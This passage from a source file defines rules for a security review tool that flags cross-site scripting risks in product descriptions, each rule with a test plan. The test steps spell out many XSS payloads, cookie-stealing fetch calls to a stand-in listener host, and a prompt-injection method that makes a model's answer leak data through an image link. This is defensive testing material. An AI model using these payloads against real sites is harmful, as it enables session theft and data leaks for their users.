      steps: [
        "As the author, save a {lib} text with the label <img src=x onerror=alert(document.domain)>.",
        'Save one with a link to javascript:alert(1) in the library\'s own syntax, such as click A "javascript:alert(1)" in mermaid.',
        "In the second browser, open the page and click the node and the formula.",
      ],
      failsIf: "an alert opens",
    },
    example: "Pictures from text\n\nFenced mermaid blocks are drawn on the page, including links.",
    counterexample: "Pictures from text\n\nPictures on a page can be enlarged by a click.",
  },
  {
    id: "stores-typed-html",
    when: [
      `${TEXT} .. stored|saved|kept|accepts|accept|take|takes|allow|allows|allowed|contain|contains|with|support|supports|may|can|be|in|as .. html`,
      `${TEXT} .. raw html`,
      `allow|allows|enable|enables|enabled|accept|support|keep|keeps|permit .. html .. in|for|of|content .. ${TEXT}`,
      `html .. allowed|stored|kept|enabled|accepted|saved|supported .. in|for|as .. ${TEXT}`,
      `rich text|wysiwyg .. for|in|on .. ${TEXT}`,
      `${TEXT} .. rich text|wysiwyg`,
      `${TEXT} .. stored|saved ... html`,
      `write|writes|type|types|enter|use|with .. html .. ${TEXT}`,
      `macro html .. enabled in ${TEXT}`,
    ],
    unless: [
      "html .. report|test|page|file|element|tag changed|fixed",
      "html is|are stripped|removed|escaped",
      "no html",
      "title tag|attribute|element",
      "aria label",
      "plain text only",
    ],
    cwe: 79,
    severity: "high",
    rationale: "a stored script acts with the session of each reader",
    name: "HTML in the {text} can run a script for each reader",
    consequence:
      "An editor's buttons do not bind a request: whoever writes the {text} can send any HTML, and unless the server cleans it, an event handler in it acts in the session of each reader.",
    control: {
      when: [
        "sanitized|sanitised|sanitizer|sanitiser|sanitize|dompurify|bleach|purified|cleaned",
        "allowlist|whitelist",
      ],
      consequence:
        "Check that it is done on the server, and that it refuses event handlers, javascript: links and SVG.",
    },
    test: {
      technique: "inject-input",
      title: ["Send HTML with handlers to {endpoint}", "Send HTML with handlers as {text}"],
      setUp: "An author's account, a reader's browser, a proxy to alter the saving request, and an open console.",
      steps: [
        "As the author, save any {text} and replace it in the request by <img src=x onerror=alert(document.domain)>.",
        "Save <a href=javascript:alert(1)>x</a>, then <svg onload=alert(1)>.",
        "As the reader, open each and click the link.",
      ],
      failsIf: "an alert opens",
    },
    example: "Company profile\n\nThe description accepts HTML and is shown on the profile.",
    counterexample: "Company profile\n\nThe year of foundation is shown below the name.",
  },
  {
    id: "converts-markdown",
    when: [
      `${TEXT} .. take|takes|support|supports|in|with|accept|accepts|rendered|may|can|as|from|are|is .. [format:markdown|bbcode|asciidoc|textile|rst]`,
      `[format:markdown|bbcode|asciidoc|textile|rst] .. in|for|of .. ${TEXT}`,
      `${TEXT} .... [format:markdown|bbcode|rst] & show|shows|render|rendered|renders|formatted|displayed`,
    ],
    unless: [
      "docs .. markdown",
      "export .. markdown",
      "markdown .. file|files|lint",
      "release note|notes",
      "readme .. updated|update",
    ],
    cwe: 79,
    severity: "medium",
    rationale: "it needs a gap in the conversion, and then acts in the session of each reader",
    name: "A {format} link in the {text} can run a script when it is clicked",
    consequence:
      "{format} becomes HTML that others open. Raw tags, javascript: links and attributes that end early have to be refused in the result, otherwise the author of the {text} acts as its reader.",
    control: {
      when: [
        "sanitized|sanitised|sanitizer|sanitiser|sanitize|dompurify|bleach|escaped",
        "raw html .. off|disabled|stripped",
      ],
      consequence:
        "Check that it works on the finished HTML, and that link targets and picture addresses pass through it as well.",
    },
    test: {
      technique: "inject-input",
      title: "Save {format} with script links in the {text}",
      setUp: "A way to write the {text} as its usual author does, and a second browser with its console open.",
      steps: [
        "As the author, write the {format} form of a link to javascript:alert(document.domain), then to java&#9;script:alert(1).",
        'Write a raw <img src=x onerror=alert(1)>, and a picture whose address is x"onerror="alert(1).',
        "In the second browser, open it and click each link.",
      ],
      failsIf: "an alert opens",
    },
    example: "Incident updates\n\nComments take Markdown: bold, links and lists.",
    counterexample: "Incident updates\n\nUpdates are sorted with the newest on top.",
  },
  {
    id: "links-to-any-scheme",
    when: [
      "[field:link|links|url|urls|address|target|href|button|image] .. any|every|other scheme|schemes|protocol|protocols",
      "any|every|all|custom scheme|schemes|protocol|protocols .... [field:link|links|url|urls|address|button|redirect]",
      "[field:website|homepage|url|address] ... displayed|shown|rendered .. link|href",
      "clickable|linkified ... [field:location|description|notes|comment|text|bio|message]",
      "[field:location|description|note|comment|text|bio|message|name] ... links .. clickable",
      "rendered as a? href .. whatever && [field:link|href|cell]",
      "javascript included && [field:link|url]",
    ],
    unless: ["protocol buffers", "href .. hard coded", "https|tls protocol", "fix .. clickable area"],
    cwe: 79,
    severity: "medium",
    rationale: "the script runs only when its reader clicks, then with the reader's session",
    name: "A javascript: address in the {field} can run a script on a click",
    consequence:
      "An address need not begin with http: javascript:… is one too. Unless the scheme is compared with a short list after decoding, a click runs its author's script in the reader's session.",
    control: {
      when: ["only .. http|https|mailto", "http|https .. only", "allowlist|whitelist .. scheme|schemes|protocol"],
      consequence:
        "Check that it compares the decoded and trimmed address, and that links saved before are held to it as well.",
    },
    test: {
      technique: "inject-input",
      title: "Save script addresses in the {field}",
      setUp: "A way to set the address as its usual author does, and a second browser with its console open.",
      steps: [
        "As the author, save javascript:alert(document.domain), then JaVaScRiPt:alert(1) and java&#9;script:alert(1).",
        'Save https://example.org/"onmouseover="alert(1).',
        "In the second browser, open what displays it and click each link, with the middle button too.",
      ],
      failsIf: "an alert opens",
    },
    example: "Profiles\n\nThe homepage field of a profile is displayed as a link, with or without http.",
    counterexample: "Profiles\n\nThe profile shows since when a person is a member.",
  },
  {
    id: "shows-outsiders-text",
    when: [
      `[who:<anonymous|customer>] .. leave|leaves|write|writes|post|type|types|enter|enters|add|adds|send|sends .. ${TEXT} & show|shown|shows|appear|appears|displayed|display|visible|live|public`,
      `[who:<anonymous|customer>] .. leave|leaves|write|writes|post|type|types|enter|enters|add|adds .. ${TEXT} && shown|appears|appear|displayed .. page|list|screen|board|overlay`,
      `${TEXT} .. as typed|entered & shown|shows|displayed|board|screen|prints|list`,
    ],
    unless: ["escaped|escapes|plain text", "type|types .. checker|hint|script"],
    cwe: 79,
    severity: "medium",
    rationale: "it needs one place that does not escape, and then acts for each reader",
    name: [
      "Markup in the {text} that {who} type can run where it is displayed",
      "Markup in the {text} can run where it is displayed as typed",
    ],
    consequence:
      "One person's {text} is displayed to others. In any place that builds HTML from it without escaping, a tag in it runs in the reader's browser.",
    test: {
      technique: "inject-input",
      title: "Type markup as {text} and open what displays it",
      setUp: "A way to type the {text} as its usual author does, and a second browser with its console open.",
      steps: [
        "As the author, type <img src=x onerror=alert(document.domain)> as {text}.",
        'Type "><svg onload=alert(1)> in the same place.',
        "In the second browser, open each list, page and message that displays it.",
      ],
      failsIf: "an alert opens, or the element tree holds an element that was typed",
    },
    example: "Guest book\n\nGuests leave a comment with their name; it appears at once.",
    counterexample: "Guest book\n\nThe button moved from the foot to the head.",
  },
  {
    id: "cleaning-switched-off",
    topicOnly: true,
    when: inText([
      "[filter:sanitize|sanitise|sanitizer|sanitiser|sanitization|escaping|autoescape|dompurify|cleaner|cleaning] .. false|off|disabled|gone|none",
      "drop|drops|remove|removes|skip|disable|disables .. [filter:sanitizer|sanitiser|sanitizing|sanitising|sanitization|escaping|autoescape|dompurify|cleaner|cleaning]",
      "no_longer|not|never|isn't|aren't [filter:sanitized|sanitised|escaped|cleaned|encoded]",
    ]),
    cwe: 79,
    severity: "high",
    rationale: "whatever an author sends runs with the session of each reader once it is no longer cleaned",
    name: [
      "Without its cleaning, {endpoint} hands scripts to its readers",
      "A script in the {text} runs for readers where the cleaning is off",
      "Around {code}, an author's script runs for readers",
      "“{line}”: an author's script runs for readers",
      "An author's script runs for readers where the cleaning is off",
    ],
    consequence:
      "So tags and event handlers reach the reader's browser as the author sent them, and each reader's session does what they say, unless another step cleans the text or shows it apart from the product's pages.",
    test: {
      technique: "inject-input",
      title: "Send what the cleaning used to remove",
      setUp: READERS,
      steps: [
        "As the author, send <img src=x onerror=alert(document.domain)> as the text that is no longer cleaned.",
        "Send <svg onload=alert(1)>, <a href=javascript:alert(1)>x</a> and <iframe srcdoc='<script>alert(1)</script>'>.",
        "In the second browser, open each place that shows it, and follow the links.",
      ],
      failsIf: "an alert opens in the second browser",
    },
    example: "Stock notes\n\nThe notes of the stock list are not escaped from this release on.",
    counterexample: "Stock notes\n\nThe notes of the stock list are grey from this release on.",
  },
  {
    id: "runs-model-answer",
    topicOnly: true,
    when: [
      "[who:model|models|llm|gpt|assistant|chatbot|copilot] .... markdown|html|rendered|formatted|links|marked|markup|images|cards|svg",
      "[who:answer|answers|completion|sources|summary] .... formatted|rendered|marked|markdown_it .... links|images|html|marked|markdown",
    ],
    cwe: 79,
    severity: "medium",
    rationale: "text that the model has read decides what stands in its answer, and it runs with the reader's session",
    name: [
      "Markup in the {who}'s answer can run as a script at {endpoint}",
      "“{line}”: markup in an answer can run as a script",
      "Markup that the model is made to repeat can run as a script",
    ],
    consequence:
      "So a text that the model reads, or a question sent as a link, can have it answer with tags: a picture's address carries data away, an event handler runs, unless the answer is cleaned like any stranger's text.",
    control: CLEANED,
    test: {
      technique: "inject-input",
      title: "Have the model answer with markup",
      setUp: READERS,
      steps: [
        "As the author, ask the model to answer with exactly <img src=x onerror=alert(document.domain)>.",
        "Ask it to answer with [open](javascript:alert(1)) and ![x](https://listener.example/?q=1).",
        "Put the same request into a text that the model reads, and ask for a summary of it in the second browser.",
      ],
      failsIf: "an alert opens, or the browser calls listener.example",
    },
    example: "Answers\n\nThe copilot may draw images in the side bar.",
    counterexample: "Answers\n\nThe side bar is wider.",
  },
  {
    id: "takes-posted-markup",
    topicOnly: true,
    when: [
      "postmessage",
      "post [how:message] .... page|frame|iframe|window|widget|html",
      "message [how:event|events|listener] .... html|window|frame|type",
    ],
    cwe: 79,
    severity: "high",
    rationale: "any page that frames it or is framed by it can send such a message",
    name: [
      "A message from a foreign frame can put a script into the page of {endpoint}",
      "A message from a foreign frame can put a script into the page",
    ],
    consequence:
      "So any window that holds a reference to the page may send the message. What it carries then acts inside the page, unless the sender's origin is compared with a list and the content is set as text.",
    control: {
      when: ["origin .. checked|check|compared|allowlist|whitelist|verified"],
      consequence:
        "Check that the whole origin is compared, not its beginning, and that what the message carries is still set as text.",
    },
    test: {
      technique: "lure-browser",
      title: "Send such messages from a foreign page",
      setUp: "A page on another origin that opens the product in a frame and in a second window.",
      steps: [
        "From the foreign page, send the message that the quoted line is about with <img src=x onerror=alert(document.domain)> in each of its values.",
        "Send it with javascript:alert(document.domain) in each value that is an address.",
        "Send it from an origin that begins with the permitted one, such as https://permitted.example.evil.example.",
      ],
      failsIf: "an alert opens that names the product's domain",
    },
    example: "Widget control\n\nHost pages steer the widget by postMessage, the greeting included.",
    counterexample: "Widget control\n\nHost pages see the widget at the right edge.",
  },
  {
    id: "fixes-xss",
    topicOnly: true,
    when: [
      "fix|fixes|fixed|prevent|prevents|close|closes|handle|handles|mitigate|resolve|avoid|patch|address .... [flaw:xss|injection]",
      "[flaw:xss] .... fix|fixes|fixed|issue|warning|vulnerability|attack|safe|vector|vulnerabilities",
      "cross site [flaw:scripting]",
      "fix|fixes|fixed|add|adds|now|properly|correctly|missing|always|should|must .... [flaw:escape|escapes|escaped|escaping|sanitize|sanitise|sanitized|sanitised|encode|encoded|encoding]",
      "[flaw:escape|escapes|sanitize|sanitizes|sanitise|encode] .... before|html|output|names|user|values|input|titles|text|title|properly|when",
      "don't|no_longer|not|never output|print|echo the? .. [flaw:input]",
      "without [flaw:escaping]",
    ],
    unless: [
      "drop|drops|remove|removed|turn|switch|off|disable .. escaping|sanitiser|sanitizer|sanitizing",
      "sql|shell|regex .. escape|escaping",
      "escape key|codes",
    ],
    cwe: 79,
    severity: "medium",
    rationale: "a place that the change misses still runs a script with the session of its reader",
    name: [
      "Markup sent to {endpoint} may still run where the change misses it",
      "“{line}”: another way to the same text may be missed",
      "Around {code}, markup may still run where the change misses it",
      "Markup may still run where the new escaping misses it",
    ],
    consequence:
      "Check that every way to the same text is covered: attributes as well as element content, texts stored before the change, and the other pages that display them.",
    test: {
      technique: "inject-input",
      title: "Bring markup to the changed place in other ways",
      setUp: READERS,
      steps: [
        "As the author, set the text that the quoted line is about to <img src=x onerror=alert(document.domain)>; it has to show as text.",
        'Set it to " autofocus onfocus=alert(1) x=" and to &lt;svg onload=alert(1)&gt;, which must not be decoded twice.',
        "Save one such text on the version before the change and open it with the new one.",
        "In the second browser, open each list, title, mail and tooltip that shows the same text.",
      ],
      failsIf: "an alert opens, or an element that was typed stands in the element tree",
    },
    example: "Role field\n\nFixes an XSS issue in the role field of the team page.",
    counterexample: "Role field\n\nThe role field of the team page comes after the name.",
  },
  {
    id: "loosens-cleaning",
    topicOnly: true,
    when: inText([
      "[filter:sanitiser|sanitizer|sanitisation|sanitization|sanitize|sanitise|sanitising|sanitizing|purify|dompurify|bleach|cleaner]",
      "allow|allows|permit|let|lets .. iframe|script|style|object|embed",
      "[filter:safe] html types|tags|attributes|list",
      "allow|allows|permit|let|lets .... style|iframe|script|object|embed|svg|form [filter:tag|tags|attribute|attributes|element|elements]",
      "allow|permit|let <markup> [filter:tags|attributes|elements]",
      "content security [filter:policy]",
      "[filter:csp] .... unsafe|inline|off|remove|drop|relax|allow",
    ]),
    cwe: 79,
    severity: "medium",
    rationale: "whatever passes the cleaning runs with the session of each reader",
    name: [
      "Markup that the changed cleaning lets through can run for readers of {endpoint}",
      "Markup that the changed cleaning leaves in the {text} can run",
      "Where {subject} may {predicate}, markup that is let through can run",
      "Around {code}, markup that is let through can run for readers",
      "“{line}”: what now passes can run for readers",
      "Markup that the changed cleaning lets through can run for its readers",
    ],
    consequence:
      "So what reaches the page is now what the cleaning lets through. Tags, attributes and addresses that can hold a script are the question, and whether anything alters the text after it was cleaned.",
    test: {
      technique: "inject-input",
      title: "Send what the cleaning may let through",
      setUp: READERS,
      steps: [
        [
          "As its author, save as {text} <img src=x onerror=alert(1)>, <svg><a href=javascript:alert(1)>x</a></svg> and <iframe srcdoc='<script>alert(1)</script>'>.",
          "As the author, save <img src=x onerror=alert(1)>, <svg><a href=javascript:alert(1)>x</a></svg> and <iframe srcdoc='<script>alert(1)</script>'>.",
        ],
        "Save <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>, which changes when it is parsed twice.",
        "Save <div style='position:fixed;inset:0'>Sign in again</div>.",
        "In the second browser, open each and follow its links.",
      ],
      failsIf: "an alert opens, or the last text covers the page around it",
    },
    example: "Old players\n\nThe sanitiser has a longer list from today, as asked by the radio people.",
    counterexample: "Old players\n\nThe list of players has the radio people first.",
  },
  {
    id: "shows-file-in-browser",
    topicOnly: true,
    when: [
      "[file:html|htm] .... inline|upload|uploaded|uploads|hand|tab|zip|served|files|file|pdf|attachments|attachment",
      "[file:svg|svgs|xhtml] .... inline|open|opens|opened|upload|uploaded|hand|tab|frame|allowed|accepted|shown|preview|zip|served|files",
      "inline|upload|uploads|uploaded|hand|attachment|attachments|pdf|pdfs|zip .... [file:html|svg|svgs|xhtml]",
      "open|opens|preview|accept|store|served|serve .... [file:svg|svgs|xhtml]",
      "content type|disposition .... upload|metadata|inline|uploader|uploaders|own|set|object|browser",
      "scorm|prototype|prototypes|slides|decks|simulations|h5p .... run|runs|open|opens|play|host|domain|directly",
      "png|jpg|jpeg .... [file:svg]",
      "[file:svg|svgs] please|only|too|also|sanitize|files|sit",
      "download|downloads|upload|uploads|attachment|attachments|file|files .... inline|rendered|in_the_panel|in_the_browser|in_a_tab|in_a_new_tab|new_tab",
      "anything|everything .... hand|upload|programs|web",
    ],
    cwe: 79,
    severity: "medium",
    rationale: "a file opened under the product's own address acts with the session of whoever opens it",
    name: [
      "A script in {file} files can run in the session of whoever opens them",
      "A script in a handed-in file can run in the session of whoever opens it",
    ],
    consequence:
      "So a file that a browser takes for a page is opened under the product's address, and a script in it may act as the person who opens it, unless it is served as a download or from an address without sessions.",
    control: {
      when: [
        "content disposition attachment",
        "sandbox|sandboxed",
        "separate|other|own|sandbox .. domain|origin|host",
        "sanitize|sanitise|sanitized|sanitised",
      ],
      consequence:
        "Check that it holds when the file's own address is opened in a tab, and for each type a browser runs: HTML, SVG, XML.",
    },
    test: {
      technique: "craft-file",
      title: "Hand in files that a browser runs and open them",
      setUp: "Two accounts: one that may hand in the file, one that opens it; the browser's console is open.",
      steps: [
        "As the first, hand in page.html with <script>alert(document.domain)</script> and picture.svg with the same script in it.",
        "Hand in the same page named picture.png, with text/html as its Content-Type.",
        "As the second, open each where the product shows it, then its own address in a new tab.",
      ],
      failsIf: "an alert names a domain on which the product keeps sessions",
    },
    example: "Homework formats\n\nPupils hand in web pages as html; tutors open them next to the grade.",
    counterexample: "Homework\n\nPupils see the grade next to the date.",
  },
  {
    id: "frames-foreign-content",
    topicOnly: true,
    when: beside(TEXT, [
      "[frame:iframe|iframes|embed|embeds|embedded|embedding|oembed|srcdoc|onebox|youtube|padlet|vimeo]",
      "frame .. with|without sandbox|srcdoc",
    ]),
    unless: ["embedding|embeddings .. vector|model", "frame ancestors|options"],
    cwe: 79,
    severity: "medium",
    rationale: "what is framed or embedded can act in the page around it, for everybody who opens that page",
    name: [
      "What is embedded at {endpoint} can act in the page around it",
      "What is embedded in the {text} can act in the page around it",
      "Where {subject} may {predicate}, embedded content can act in the page around it",
      "“{line}”: what is embedded can act in the page around it",
      "Around {code}, embedded content can act in the page around it",
      "Embedded content can act in the page around it",
    ],
    consequence:
      "So foreign content gets a place in the page. Whether it can reach the page's session depends on the tag that is inserted, the addresses that are accepted and the sandbox of the frame.",
    control: {
      when: ["sandbox|sandboxed", "allowlist|whitelist|allowed hosts|domains|providers"],
      consequence: "Check that it holds for javascript: and data: addresses, and for a permitted host that redirects.",
    },
    test: {
      technique: "inject-input",
      title: ["Embed in the {text} what tries to leave its frame", "Embed content that tries to leave its frame"],
      setUp: READERS,
      steps: [
        [
          "As the author, embed in the {text} javascript:alert(document.domain), data:text/html,<script>alert(1)</script> and a page of the tester's own.",
          "As the author, embed javascript:alert(document.domain), data:text/html,<script>alert(1)</script> and a page of the tester's own.",
        ],
        'Embed an address that ends in "></iframe><img src=x onerror=alert(document.domain)>.',
        "In the second browser, open the result; let the tester's page call top.location and parent.document.",
      ],
      failsIf: "an alert names the product's domain, or the tester's page moves the page around it",
    },
    example: "Videos in lessons\n\nTeachers embed films of the library in a lesson.",
    counterexample: "Videos in lessons\n\nTeachers choose films of the library by age.",
  },
  {
    id: "follows-script-address",
    topicOnly: true,
    when: beside(TEXT, [
      "javascript [scheme:included|too|bookmarklet|bookmarklets|links|urls|url|scheme]",
      "any|every|each|all|custom|free [scheme:scheme|schemes|protocol|protocols|target]",
      "location|window [scheme:href] back|value|next|to|url|target",
      "window [scheme:location]",
      "location href",
      "without a [scheme:protocol|scheme]",
      "[scheme:link|links|hyperlink|hyperlinks|url|urls|homepage|website] .... clickable|real|href|becomes|become|clicks|target",
      "[scheme:href|linkify|autolink|clickable]",
    ]),
    unless: ["open source", "tracking|short|magic link|links"],
    cwe: 79,
    severity: "medium",
    rationale: "one click on such a link runs a script with the session of whoever clicks",
    name: [
      "A javascript: address in the {text} can run on a click",
      "A javascript: address sent to {endpoint} can run on a click",
      "Around {code}, a javascript: address can run on a click",
      "“{line}”: a javascript: address in it can run",
      "A javascript: address behind a link can run on a click",
    ],
    consequence:
      "So an address that others supplied is followed by the browser. Where its scheme is not held to http and https, javascript: makes the click a script in the page.",
    control: {
      when: ["only .. https|http", "scheme|protocol .. checked|allowlist|whitelist|limited"],
      consequence:
        "Check that it holds for upper case, leading blanks and tabs inside the scheme, and for addresses saved before.",
    },
    test: {
      technique: "inject-input",
      title: "Supply addresses that are scripts and follow them",
      setUp: READERS,
      steps: [
        [
          "As the author, supply javascript:alert(document.domain) as an address in the {text}.",
          "As the author, supply javascript:alert(document.domain) as the address that the quoted line is about.",
        ],
        "Supply JaVaScRiPt:alert(1), one blank before javascript:, java, a tab and script:, and data:text/html,<script>alert(1)</script>.",
        "In the second browser, follow each, by click and with the middle button.",
      ],
      failsIf: "an alert opens",
    },
    example: "Partner pages\n\nThe homepage of a club is a clickable line from today.",
    counterexample: "Partner pages\n\nThe clubs stand in the order of their founding.",
  },
  {
    id: "brings-own-script",
    topicOnly: true,
    when: [
      "[what:script|scripts|javascript|js|snippet|snippets|shortcode|plugin|plugins] .... tag|paste|own|custom|set|edit|upload|theme|runs|run|page|head|site|source|themselves|hand|footer|header|load|gets|allow",
      "[what:template|templates|layout|bracket|head|footer|header|banner|landing|skin] .... html|unescaped|script|markup|js|raw|inserted|evaluated",
      "custom|own|edit|raw|full [what:html|javascript|markup]",
    ],
    unless: ["build|npm|shell|migration|deploy|ci script|scripts", "type|java script .. migration"],
    cwe: 79,
    severity: "medium",
    rationale: "the script acts with the rights of every reader, administrators included",
    name: [
      "Whoever may set the {what} of {endpoint} can act as each reader",
      "Where {subject} may {predicate}, the author can act as each reader",
      "Whoever may set the {what} can act as each of its readers",
    ],
    consequence:
      "So the right to write this is the right to act as anyone who opens it: a script in it reads their page and sends requests in their name, unless it runs on an address without their session.",
    control: {
      when: ["only .. admin|admins|administrators|owner|owners", "sandbox|sandboxed|separate domain"],
      consequence:
        "Check who else reaches it by import, copy or API, and that readers with more rights than the author are safe.",
    },
    test: {
      technique: "inject-input",
      title: "Write a script as the author with the fewest rights",
      setUp: "An account with the fewest rights that may write it, one with more rights, and a listener for requests.",
      steps: [
        ["As the first, put <script>fetch('https://listener.example/?'+document.domain)</script> into the {what}."],
        "Put <img src=x onerror=\"fetch('https://listener.example/?'+document.cookie)\"> in the same place.",
        "As the second account, open what shows it, and the administration pages too.",
      ],
      failsIf: "the listener is called from a domain on which the second account has its session",
    },
    example: "Club pages\n\nThe layout of a club may hold what is left unescaped.",
    counterexample: "Club pages\n\nThe pages of a club have its colours.",
  },
  {
    id: "brings-own-style",
    topicOnly: true,
    when: [
      "[what:css|stylesheet|stylesheets|style|styles|font|fonts] .... custom|own|upload|element|profile|url|param|block|class|remote|address|kept|load|sender|attribute|preview|template",
      "custom|own|upload|free|remote|keep|allow .... [what:css|stylesheet|stylesheets|styles|style|fonts]",
    ],
    unless: ["code|coding|house style", "eslint|biome|prettier|tailwind"],
    cwe: 79,
    severity: "medium",
    rationale: "a style of one person's decides what others see, and can carry typed values away",
    name: [
      "Foreign {what} at {endpoint} can cover the page and read its values",
      "“{line}”: foreign style can cover the page",
      "Foreign {what} can cover the page and carry its values away",
    ],
    consequence:
      "So one person's style applies to what others see: it lays a false form over the page, loads addresses for each typed letter and, where it stands in a style tag, can end that tag and begin a script.",
    control: CLEANED,
    test: {
      technique: "inject-input",
      title: "Send styles that leave their place",
      setUp: `${READERS} A listener for requests.`,
      steps: [
        "As the author, send </style><img src=x onerror=alert(document.domain)> as the style.",
        "Send body{background:url(https://listener.example/a)} input[value^=a]{background:url(https://listener.example/b)}.",
        "Send *{position:fixed;inset:0} and open the result in the second browser.",
      ],
      failsIf: "an alert opens, the listener is called, or the page's own controls are covered",
    },
    example: "Profile look\n\nThe stylesheet of a profile is an upload.",
    counterexample: "Profile colours\n\nMembers pick one of six colours for the profile.",
  },
  {
    id: "shows-mailed-markup",
    topicOnly: true,
    when: [
      "html [mail:mail|mails|email|emails|newsletter|newsletters]",
      "[mail:mail|mails|email|emails|newsletter|newsletters|inbox] .... html|original|styles|markup|rendered|template|templates|escaped|formatting|reason|shown|text",
      "html [mail:part|view|form|template]",
      "original html",
    ],
    unless: ["mail|email address|addresses .. shown|display"],
    cwe: 79,
    severity: "medium",
    rationale: "anybody can send a mail, and what is in it reaches a person with a session",
    name: [
      "Markup in a {mail} can act where it is opened",
      "“{line}”: markup in it can act where it is opened",
      "Markup in a mail's HTML can act where it is opened",
    ],
    consequence:
      "So text from one person becomes HTML before another: a tag in it draws a false form, loads a picture that tells of the reading, and in a page of the product can run a script, unless it is cleaned or set as text.",
    control: CLEANED,
    test: {
      technique: "inject-input",
      title: "Bring markup into the mail and open it",
      setUp: `${READERS} A mailbox and a listener for requests.`,
      steps: [
        "As the sender, put <img src=https://listener.example/a onerror=alert(document.domain)> into each text that ends in the mail.",
        "Put <form action=https://listener.example><input name=p><button>Sign in again</button></form> in the same places.",
        "Open the mail where the product shows it, and in a mail program where the product sends it.",
      ],
      failsIf: "an alert opens, a form that was typed is shown as one, or the listener is called by opening",
    },
    example: "Ticket view\n\nThe HTML part of a mail comes first in the ticket.",
    counterexample: "Ticket view\n\nThe sender comes first in the ticket.",
  },
  {
    id: "repeats-the-address",
    topicOnly: true,
    when: shownAs([
      "from|in|by the? [place:address|url|query|hash|fragment]",
      "[place:parameter|param|params|querystring|searchparams] .... shown|page|headline|inserted|html|printed|text|title|name|template",
      "search [place:term|query] .... repeated|repeats|headline|shown|bold|results",
      "no results for",
      "[place:highlight|highlighted|matches] .... search|term|inserted|inserting|bold|query",
      "error page|message .... shows|prints|request|input",
      "<endpoint> .. name|title|text|h|home|color|css|back|next|theme|url|msg|error",
      "data [place:attributes|attribute]",
    ]),
    cwe: 79,
    severity: "medium",
    rationale: "a prepared link is enough, and it acts with the session of whoever opens it",
    name: [
      "A link to {endpoint} can bring its own script",
      "A link whose {back} comes back in the page can bring its own script",
      "Around {code}, a prepared link can bring its own script",
      "“{line}”: a prepared link can bring its own script",
      "A prepared link can bring its own script into the page",
    ],
    consequence:
      "So a value that the caller chooses comes back in the page. Where it is not encoded for exactly that place, whoever follows a prepared link runs the script it carries.",
    control: CLEANED,
    test: {
      technique: "inject-input",
      title: ["Send scripts in the values of {endpoint}", "Send scripts in the value that comes back"],
      setUp: "A browser that is signed in where the page has sessions, with its console open.",
      steps: [
        [
          "Open {endpoint} with <img src=x onerror=alert(document.domain)> as each value that comes back in the page.",
          "Open the page with <img src=x onerror=alert(document.domain)> as the {back} in its address.",
          "Open the page that the quoted line is about with <img src=x onerror=alert(document.domain)> as the value that comes back.",
        ],
        "Open it with \"><svg onload=alert(1)>, with ';alert(1)// and with javascript:alert(1).",
        "Look in the page source at where each came back and how it was encoded.",
      ],
      failsIf: "an alert opens, or a sent < stands unencoded in the page source",
    },
    example: "Result page\n\nThe search term is repeated in the headline of the results.",
    counterexample: "Result page\n\nThe results have a picture each.",
  },
  {
    id: "runs-code-of-strings",
    topicOnly: true,
    when: beside(TEXT, [
      "[sink:eval|evals|evaled|innerhtml|outerhtml|srcdoc|dangerouslysetinnerhtml|insertadjacenthtml|bypasssecuritytrusthtml|marksafe|htmlsafe|unescaped|unescape|raw|safe|nl2br|appendhtml]",
      "mark|marks|marked .... [sink:safe]",
      "esc [sink:html]",
      "new [sink:function]",
      "document [sink:write]",
      "html [sink:true|false]",
      "as [sink:html|markup]",
      "via string [sink:concat|concatenation]",
      "html [sink:string|strings|entities|entity]",
    ]),
    unless: [
      "considered|reasonably|is|are|stay safe",
      "raw|safe data|image|sql|bytes|file|area",
      "type|thread|null safe",
    ],
    cwe: 79,
    severity: "high",
    rationale: "the browser parses the text as its own code, so a stored script acts with each reader's session",
    name: [
      "A tag in the {text} can run because it is inserted as HTML",
      "Text sent to {endpoint} reaches the browser as code",
      "Through {code}, a tag in the text can run for its readers",
      "“{line}”: a tag in that text can run",
      "A tag in text inserted as HTML can run for its readers",
    ],
    consequence:
      "So the text reaches the browser as markup and not as text. Where a person or an outside system supplies part of it, a tag with an event handler runs for each reader, unless it is cleaned before.",
    control: CLEANED,
    test: {
      technique: "inject-input",
      title: [
        "Put event handlers into the {text}",
        "Put event handlers into what reaches {code}",
        "Put event handlers into the inserted text",
      ],
      setUp: READERS,
      steps: [
        [
          "As its author, set the {text} to <img src=x onerror=alert(document.domain)>.",
          "As the author, set the text that the quoted line inserts to <img src=x onerror=alert(document.domain)>.",
        ],
        "Set it to \"><svg onload=alert(1)>, to {{7*7}} and to ');alert(1);//.",
        "After each, open what displays it in the second browser.",
      ],
      failsIf: "an alert opens",
    },
    example: "Card text\n\nThe side text of a card is put there as HTML.",
    counterexample: "Card text\n\nThe side text of a card stands in grey.",
  },
  {
    id: "formats-typed-text",
    topicOnly: true,
    when: beside(TEXT, [
      "[format:markdown|bbcode|asciidoc|wikitext|textile|mermaid|plantuml|katex|latex|mathjax|shortcode]",
      "contain|contains|containing|include|have .. [format:html|markup]",
      "wiki [format:markup|text|syntax]",
      "[format:rich] text|editor",
      "[format:wysiwyg|tinymce|ckeditor|quill|tiptap|richtext|prosemirror]",
      "[format:html] .... text|editor|stored|store|typed|accept|accepts|bold|description|field|comment|comments|story|allowed|formatting|paste|kept|contain|may|can|shown|posts|clipboard|name|label|template|tooltip|legend|content|holds|output|bubble|body|rendered|accepted",
      "bold|links|lists|formatting|formatted .... [format:html|markup|formatting|editor]",
      "[format:bold|italic|colours|formatting|markup] .... text|name|allowed|may|can|shown|lists|links|emoji|editor|title|comments|clients|card",
      "with|in|see|keep|kept|keeps|show|shows|accept|understand|allow .... [format:markup|formatting|html]",
    ]),
    unless: ["docs|readme|changelog|adr .. markdown", "code formatting", "icon|emoji picker"],
    cwe: 79,
    severity: "medium",
    rationale: "what one person formats runs with the session of each person who reads it",
    name: [
      "A tag in the {text} sent to {endpoint} can run for its readers",
      "A tag in the {text} can run for its readers",
      "Markup sent to {endpoint} as formatted text can run for its readers",
      "Where {subject} may {predicate}, a tag in it can run for readers",
      "“{line}”: a tag in it can run for its readers",
      "Around {code}, a tag in formatted text can run for its readers",
      "A tag in text with {format} can run for its readers",
      "A tag in formatted text can run for its readers",
    ],
    consequence:
      "So what the author sends becomes HTML in other people's pages: an event handler or a javascript: link among the permitted formatting runs as the reader, unless the result is cleaned on the server.",
    control: CLEANED,
    test: {
      technique: "inject-input",
      title: ["Send more than formatting as {text}", "Send more than the permitted formatting"],
      setUp: READERS,
      steps: [
        [
